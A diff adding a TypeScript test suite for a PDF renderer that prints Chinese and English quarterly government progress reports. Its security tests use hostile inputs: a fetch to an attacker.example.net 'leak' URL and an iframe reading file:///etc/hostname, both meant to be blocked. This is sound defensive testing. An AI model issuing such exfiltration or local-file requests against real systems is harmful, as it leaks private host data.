@@ -1,0 +1,191 @@
+/** The printed package for the hand-made fixture, read back with poppler and pdfjs. */
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { buildQuarterReport } from "../reports/model/model.report";
+import { PdfRenderer } from "../reports/pdf/renderer";
+import { writeQuarterPackage, type PackageResult } from "../reports/pdf/package";
+import { ORIGIN } from "../reports/pdf/assets";
+import { HOSTILE, SMALL_AT, SMALL_SHA, smallLedger, smallScoresQ1, smallScoresQ2 } from "./fixtures/reports/ledger.small";
+import {
+  decodeGrayPng, encodeGrayPng, imageDifference, pageImage, pdfFonts, pdfInfo, pdfOutline, pdfPages, pdfText,
+} from "./fixtures/reports/pdf-tools";
+
+const RANKED = ["区城投集团", "区经济信息委", "区发展改革委", "区人力社保局", "区财政局", "屏锦镇"];
+const flat = (s: string) => s.replace(/\s+/g, "");
+
+let renderer: PdfRenderer;
+let dir: string;
+let zh: PackageResult;
+let en: PackageResult;
+const file = (r: PackageResult, kind: string, unit?: string) => r.files.find((f) => f.kind === kind && (unit === undefined || f.unit === unit))!.path;
+
+beforeAll(async () => {
+  dir = mkdtempSync(join(tmpdir(), "pl-reports-"));
+  renderer = await PdfRenderer.launch({ concurrency: 2 });
+  const report = (lang: "zh" | "en") =>
+    buildQuarterReport(smallLedger, [smallScoresQ1, smallScoresQ2], 2, { workbookSha256: SMALL_SHA, generatedAt: SMALL_AT, lang });
+  zh = await writeQuarterPackage(report("zh"), renderer, { outDir: join(dir, "zh") });
+  en = await writeQuarterPackage(report("en"), renderer, { outDir: join(dir, "en"), units: ["区财政局"] });
+});
+
+afterAll(async () => {
+  await renderer?.close();
+  if (dir) rmSync(dir, { recursive: true, force: true });
+});
+
+describe("quarterly summary PDF", () => {
+  it("prints the fixture's figures, units and page numbers", () => {
+    const f = file(zh, "summary");
+    const text = flat(pdfText(f));
+    for (const s of ["2023年第二季度目标任务推进情况报告", "重庆市梁平区人民政府办公室", "55.0%", "60.0%", "50.0%",
+      "102.9%", "53.7%", "36.0%", "≥5,000人", "1,800人", "2,500人", "7.2%", "100.0", "88.0", "26.7", ...RANKED, SMALL_SHA,
+      "2023年07月05日10:30"]) {
+      expect(text, s).toContain(flat(s));
+    }
+    const pages = pdfPages(f);
+    const n = Number(pdfInfo(f).Pages);
+    expect(pages).toHaveLength(n);
+    expect(n).toBeGreaterThanOrEqual(6);
+    // The cover has no margin boxes; every other page is numbered "第 N 页 / 共 M 页".
+    expect(flat(pages[0]!)).not.toContain("第1页");
+    for (let i = 2; i <= n; i++) expect(flat(pages[i - 1]!)).toContain(`第${i}页/共${n}页`);
+  });
+
+  it("lists lagging tasks with their problems, and the unreported task in the appendix", () => {
+    const text = flat(pdfText(file(zh, "summary")));
+    expect(text).toContain(flat("返乡务工人员减少，企业用工需求下降。"));
+    expect(text).toContain(flat("举办专场招聘会，落实稳岗补贴。"));
+    const appendix = text.slice(text.indexOf("附录一"));
+    expect(appendix).toContain("深化政务公开");
+    expect(text).toContain("任务!H4");
+    expect(text).toContain("指标!H7");
+  });
+
+  it("prints a hostile narrative literally and loads nothing it names", () => {
+    const text = flat(pdfText(file(zh, "summary")));
+    expect(text).toContain(flat(HOSTILE));
+    const hostname = readFileSync("/etc/hostname", "utf8").trim();
+    if (hostname.length >= 6) expect(text).not.toContain(hostname);
+    expect(renderer.blockedRequests.filter((u) => u.startsWith("file:") || !u.startsWith(ORIGIN))).toEqual([]);
+  });
+
+  it("has PDF metadata, zh-CN language, tags and section bookmarks", async () => {
+    const f = file(zh, "summary");
+    const info = pdfInfo(f);
+    expect(info.Title).toBe("2023年第二季度目标任务推进情况报告");
+    expect(info.Author).toBe("重庆市梁平区人民政府办公室");
+    expect(info.Subject).toContain("目标任务");
+    expect(info.Keywords).toContain("台账");
+    expect(info.Tagged).toBe("yes");
+    const { outline, lang } = await pdfOutline(f);
+    expect(lang).toBe("zh-CN");
+    expect(outline.map((o) => o.title)).toEqual([
+      "一、总体情况", "二、分领域完成情况", "三、量化指标完成情况", "四、滞后及脱幅任务", "五、单位得分排名", "六、季度趋势", "附录一　未填报任务", "附录二　数据来源",
+    ]);
+  });
+});
+
+describe("fonts and text extraction", () => {
+  it("embeds only subset TrueType Noto Sans SC, never Type 3", () => {
+    for (const f of zh.files) {
+      const fonts = pdfFonts(f.path);
+      expect(fonts.length).toBeGreaterThan(0);
+      for (const font of fonts) {
+        expect(font.type, `${f.path}: ${font.name}`).not.toMatch(/Type 3/);
+        expect(font.embedded && font.subset && font.unicode, font.name).toBe(true);
+        expect(font.name).toMatch(/^[A-Z]{6}\+NotoSansSC/);
+      }
+    }
+  });
+
+  it("extracts no Kangxi or CJK radical look-alikes (U+2E80–U+2FDF)", () => {
+    for (const f of [...zh.files, ...en.files]) expect(pdfText(f.path)).not.toMatch(/[\u2E80-\u2FDF]/);
+  });
+
+  it("asks only for the font slices the text needs", () => {
+    expect(renderer.assets.fontRequests.size).toBeGreaterThan(3);
+    expect(renderer.assets.fontRequests.size).toBeLessThan(120); // of 202 slices (400 + 700)
+  });
+});
+
+describe("unit scorecards", () => {
+  it("has one combined PDF with one top-level bookmark per unit, in rank order", async () => {
+    const combined = file(zh, "scorecards");
+    const { outline, pages } = await pdfOutline(combined);
+    expect(outline.map((o) => o.title)).toEqual(RANKED);
+    // Each unit's own headings nest under it, each title once (Chromium once doubled them).
+    expect(outline[0]!.items.map((o) => o.title)).toContain("得分与排名");
+    for (const o of outline.flatMap((x) => [x, ...x.items])) expect(o.title).not.toMatch(/^(.+)\1$/);
+    const single = zh.files.filter((f) => f.kind === "scorecard");
+    expect(single.map((f) => f.unit)).toEqual(RANKED);
+    let sum = 0;
+    for (const f of single) sum += Number(pdfInfo(f.path).Pages);
+    expect(pages).toBe(sum);
+  });
+
+  it("writes one PDF per unit with its score, rank and page numbers", () => {
+    const f = file(zh, "scorecard", "区经济信息委");
+    expect(f.endsWith("区经济信息委.pdf")).toBe(true);
+    const pages = pdfPages(f);
+    const text = flat(pages.join(""));
+    for (const s of ["区经济信息委", "88.0", "第2名/共6个", "上季度第3名", "新建5G基站", "120个", "60.0%", "推进智能制造"]) expect(text).toContain(flat(s));
+    expect(flat(pages[0]!)).toContain(`第1页/共${pages.length}页`);
+    expect(pdfInfo(f).Title).toContain("区经济信息委");
+  });
+});
+
+describe("English", () => {
+  it("renders the same report in English", () => {
+    const f = file(en, "summary");
+    const text = flat(pdfText(f));
+    for (const s of ["Progress Report on Target Tasks, Q2 2023", "Overview", "Completion by section", "55.0%", "Behind pace", "区财政局", "Page 2 of"]) {
+      expect(text).toContain(flat(s));
+    }
+    expect(text).not.toContain("总体情况");
+    expect(en.files.filter((x) => x.kind === "scorecard").map((x) => x.unit)).toEqual(["区财政局"]);
+    expect(pdfInfo(f).Title).toBe("Progress Report on Target Tasks, Q2 2023");
+  });
+});
+
+describe("security of the page", () => {
+  it("aborts requests to any other origin and records them", async () => {
+    const before = renderer.blockedRequests.length;
+    const files = {
+      // Deliberately without CSP, to exercise the interception layer on its own.
+      "index.html": { body: `<!DOCTYPE html><html><body><img src="https://example.com/pixel.png"><iframe src="file:///etc/hostname"></iframe><p>x</p></body></html>`, contentType: "text/html" },
+      "page.css": { body: "", contentType: "text/css" },
+    };
+    const frameText = await renderer.withPage(files, async (page) => {
+      await page.evaluate(() => fetch("https://attacker.example.net/leak").catch(() => null));
+      await expect(page.goto("https://example.org/")).rejects.toThrow();
+      return page.frames().map((fr) => fr.url());
+    });
+    const blocked = renderer.blockedRequests.slice(before);
+    expect(blocked).toContain("https://example.com/pixel.png");
+    expect(blocked).toContain("https://attacker.example.net/leak");
+    expect(blocked).toContain("https://example.org/");
+    expect(frameText.some((u) => u.startsWith("file:"))).toBe(false);
+  });
+});
+
+describe("page images", () => {
+  const REF = join(__dirname, "reference-images");
+  const cases = [
+    { name: "summary-cover.png", pick: () => file(zh, "summary"), page: 1 },
+    { name: "scorecard-page1.png", pick: () => file(zh, "scorecard", "区经济信息委"), page: 1 },
+  ];
+  for (const c of cases) {
+    it(`matches the committed reference ${c.name}`, () => {
+      const img = pageImage(c.pick(), c.page, 40);
+      const ref = join(REF, c.name);
+      // Regenerate after an intended layout change: UPDATE_REFERENCE_IMAGES=1 npx vitest run test/reports.pdf.test.ts
+      if (process.env.UPDATE_REFERENCE_IMAGES === "1") writeFileSync(ref, encodeGrayPng(img));
+      expect(existsSync(ref), `missing reference ${ref}`).toBe(true);
+      const expected = decodeGrayPng(readFileSync(ref));
+      expect([img.width, img.height]).toEqual([expected.width, expected.height]);
+      expect(imageDifference(img, expected)).toBeLessThan(0.004);
+    });
+  }
+});
